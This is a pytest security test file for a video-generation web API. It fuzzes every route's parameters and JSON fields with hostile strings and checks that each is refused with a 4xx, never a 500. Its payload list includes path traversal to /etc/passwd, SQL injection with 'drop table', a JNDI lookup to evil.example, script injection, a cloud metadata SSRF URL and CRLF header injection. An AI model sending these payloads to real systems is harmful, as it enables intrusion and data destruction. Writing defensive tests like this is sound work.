"""Hostile input in every string a route takes — path parameters, query parameters, JSON
fields, headers — found from the OpenAPI documents: path tricks, NUL bytes, broken and
exotic Unicode, injection strings, huge values. Each is answered below 500 (a 4xx says
what is wrong), errors are problem+json, and none echoes a secret or a stack trace."""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from izgens.config import reset_settings
from tests.security.support import Operation, Stack, assert_security_headers, operations
from tests.support.problems import assert_problem

OPERATIONS = operations()

NASTY: dict[str, str] = {
    "traversal": "../../../../etc/passwd",
    "windows traversal": "..\\..\\..\\windows\\win.ini",
    "encoded traversal": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "double encoded": "%252e%252e%252f",
    "nul": "\x00",
    "embedded nul": "abc\x00def",
    "lone surrogate": "\ud800",
    "reversed surrogates": "\udc00\ud800",
    "bidi override": "\u202egnp.exe",
    "zero width": "\u200b\u200c\u200d\ufeff",
    "fullwidth": "ｓｔａｒｔｅｒ",
    "combining": "e" + "\u0301" * 500,
    "emoji": "🎬" * 300,
    "control": "\x01\x07\x1b[31m\r\nX-Injected: 1",
    "sql": "' OR '1'='1'; drop table public.profiles; --",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "jndi": "${jndi:ldap://evil.example/a}",
    "html": "<script>alert(1)</script>",
    "format": "%s%s%s%n%x",
    "absolute url": "http://169.254.169.254/latest/meta-data/",
    "s3 key of someone else": f"references/{uuid.uuid4()}/{uuid.uuid4().hex}.png",
    "empty": "",
    "spaces": "   ",
    "huge": "A" * 60_000,  # under the body limit: the field limits must answer
    "number-like": "1e400",
    "json in string": '{"$gt": ""}',
}

# A valid request per route with a body; a route added without one fails below.
BODIES: dict[str, dict[str, Any]] = {
    "generate:POST /uploads": {"filename": "a.png", "content_type": "image/png", "bytes": 1000},
    "generate:POST /generations": {
        "prompt": "a paper boat on a river",
        "model": "seedance-1-0-pro-fast-251015",
        "resolution": "480p",
        "ratio": "16:9",
        "reference_keys": [],
    },
    "generate:POST /quote": {
        "prompt": "a paper boat on a river",
        "model": "dreamina-seedance-2-0-fast-260128",
        "mode": "reference",
        "ratio": "16:9",
        "reference_keys": [],
    },
    "generate:POST /generations/{generation_id}/recreate": {"seed": 7},
    "account:POST /me/age-confirmation": {"over_18": True},
    "account:POST /checkout": {"pack_id": "starter"},
    "account:PATCH /me": {"display_name": "Ada"},
}


def _json_body(op: Operation) -> dict[str, Any] | None:
    content = op.operation.get("requestBody", {}).get("content", {})
    if "application/json" not in content:
        return None
    assert op.id in BODIES, f"add a valid body for {op.id} to BODIES"
    return BODIES[op.id]


def _string_fields(body: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    """Each string in the body (list items included), as a path to replace."""
    for key, value in body.items():
        if isinstance(value, str):
            yield key, None
        elif isinstance(value, list):
            yield key, 0
    yield "unexpected_extra_field", None  # extra="forbid" must refuse it


def _replace(body: dict[str, Any], key: str, index: Any, value: str) -> dict[str, Any]:
    copy = dict(body)
    copy[key] = [value] if index is not None else value
    return copy


def _send(
    stack: Stack, op: Operation, url: str, body: Any, headers: dict[str, Any]
) -> httpx.Response:
    # ensure_ascii: a lone surrogate travels as its \\ud800 escape, as a hostile client sends it
    content = json.dumps(body).encode() if body is not None else None
    if content is not None:
        headers = {**headers, "Content-Type": "application/json"}
    return stack.api.request(op.method, url, content=content, headers=headers)


def _encoded(value: str) -> str:
    """Percent-encoded UTF-8 (a lone surrogate as the bytes it would take)."""
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def _check(response: httpx.Response, why: str) -> None:
    assert response.status_code < 500, (why, response.status_code, response.text[:300])
    assert_security_headers(response)
    if response.status_code >= 400:
        assert_problem(response, response.status_code)
        assert "Traceback" not in response.text and "psycopg" not in response.text, why


@pytest.fixture
def hostile(stack: Stack, monkeypatch: pytest.MonkeyPatch) -> Stack:
    for name in ("RATE_GENERATE_USER", "RATE_GENERATE_IP", "RATE_UPLOAD_USER", "RATE_UPLOAD_IP"):
        monkeypatch.setenv(name, "100000")
    monkeypatch.setenv("RATE_CHECKOUT_USER", "100000")
    monkeypatch.setenv("RATE_CHECKOUT_IP", "100000")
    monkeypatch.setenv("RATE_AUTH_FAILURES_IP", "100000")
    reset_settings()
    return stack


@pytest.mark.parametrize("function", sorted({op.function for op in OPERATIONS}))
def test_hostile_strings_in_every_field_and_parameter_are_4xx_never_5xx(
    hostile: Stack, function: str
) -> None:
    stack = hostile
    generation = stack.api.post(
        "/generate/generations",
        json={"prompt": "an original to recreate"},
        headers={**stack.auth, "Idempotency-Key": uuid.uuid4().hex},
    )
    assert generation.status_code == 202, generation.text
    real_ids = {"generation_id": generation.json()["id"], "export_id": str(uuid.uuid4())}
    sent = 0
    for op in (o for o in OPERATIONS if o.function == function):
        body = _json_body(op)
        base_headers = {**stack.auth}
        params = [p for p in op.operation.get("parameters", [])]
        for why, value in NASTY.items():
            idem = {"Idempotency-Key": uuid.uuid4().hex}
            # path parameters, as sent raw (where a client can) and percent-encoded
            for name in op.path_params:
                for form in {value, _encoded(value)}:
                    url = op.url(**{**real_ids, name: form})
                    try:
                        response = _send(stack, op, url, body, {**base_headers, **idem})
                    except (httpx.InvalidURL, UnicodeEncodeError):
                        continue  # no HTTP client can send that raw
                    _check(response, f"{op.id} path {name} {why}")
                    sent += 1
            # query and header parameters, one at a time
            for param in params:
                if param["in"] == "query":
                    url = f"{op.url(**real_ids)}?{param['name']}={_encoded(value)}"
                    response = _send(stack, op, url, body, {**base_headers, **idem})
                    _check(response, f"{op.id} query {param['name']} {why}")
                    sent += 1
                elif param["in"] == "header":
                    raw = value.encode("utf-8", "surrogatepass")
                    if not raw.strip() or any(c in raw for c in b"\r\n\x00"):
                        continue  # not sendable in HTTP/1.1 (nor by Function URLs)
                    headers = {**base_headers, param["name"]: raw}
                    response = _send(stack, op, op.url(**real_ids), body, headers)
                    _check(response, f"{op.id} header {param['name']} {why}")
                    sent += 1
            # every string of the JSON body
            if body is not None:
                for key, index in _string_fields(body):
                    hostile_body = _replace(body, key, index, value)
                    response = _send(
                        stack, op, op.url(**real_ids), hostile_body, {**base_headers, **idem}
                    )
                    _check(response, f"{op.id} body {key} {why}")
                    if key == "unexpected_extra_field":
                        assert response.status_code == 422, response.text
                    sent += 1
    assert sent > 0 or function == "plisio_webhook"  # its one route reads raw bytes


@pytest.mark.parametrize(
    "body",
    [
        b"{",
        b'{"prompt": "x"',
        b"\xff\xfe\x00\x00",
        b'{"prompt": "\xed\xa0\x80"}',  # a surrogate encoded as UTF-8: not UTF-8
        b"[" * 5000 + b"]" * 5000,  # deep nesting
        b"null",
        b"[]",
        b'"just a string"',
        b'{"prompt": 1e999999}',
        b'{"prompt": "x", "seed": 123456789012345678901234567890}',
        b'{"prompt": "x", "seed": false}',
        b'{"prompt": "x", "seed": "7"}',
        b'{"prompt": "x", "seed": 7.0}',
        b'{"prompt": "x", "generate_audio": "true"}',
        b'{"prompt": "x", "generate_audio": 1}',
        b'{"prompt": "x", "reference_keys": "references/x.png"}',
    ],
    ids=lambda b: repr(b[:24]),
)
def test_malformed_and_loosely_typed_bodies_are_refused(hostile: Stack, body: bytes) -> None:
    """Strict models: no `false` for a number, no "7" for an integer, no 1 for a boolean."""
    before = hostile.counts()
    response = hostile.api.post(
        "/generate/generations",
        content=body,
        headers={
            **hostile.auth,
            "Idempotency-Key": uuid.uuid4().hex,
            "Content-Type": "application/json",
        },
    )
    assert response.status_code in (400, 422), response.text
    _check(response, repr(body[:40]))
    after = hostile.counts()
    assert after == before


def test_every_route_with_a_body_has_a_valid_example() -> None:
    with_body = {op.id for op in OPERATIONS if _json_body(op) is not None}
    assert with_body == set(BODIES)


@pytest.mark.parametrize("why", ["nul", "lone surrogate", "fullwidth", "emoji", "bidi override"])
def test_a_callback_token_with_a_real_id_and_a_hostile_tail_is_401(
    hostile: Stack, why: str
) -> None:
    """The id part parses, so the MAC comparison sees the hostile rest (compare_digest
    refuses non-ASCII str with TypeError: that was a 500)."""
    token = f"{uuid.uuid4().hex}.{NASTY[why]}"
    url = f"/status/callbacks/byteplus?token={_encoded(token)}"
    response = hostile.api.post(url, json={"id": "cgt-1"})
    _check(response, why)
    assert response.status_code in (401, 422)  # 422: longer than a token can be


@pytest.mark.parametrize("why", ["nul", "lone surrogate", "reversed surrogates", "emoji"])
def test_a_plisio_callback_with_hostile_text_is_refused_as_unsigned(
    hostile: Stack, why: str
) -> None:
    """Every serialisation verify_hash is checked against must survive any JSON string
    (an unpaired surrogate cannot be UTF-8 encoded: that was a 500)."""
    before = hostile.counts()
    body = json.dumps({"order_number": NASTY[why], "status": "completed", "verify_hash": "a" * 40})
    response = hostile.api.post(
        "/plisio_webhook/plisio/callback?json=true",
        content=body.encode(),
        headers={"Content-Type": "application/json"},
    )
    _check(response, why)
    assert response.status_code == 422 and response.json()["code"] == "invalid_signature"
    assert hostile.counts() == before
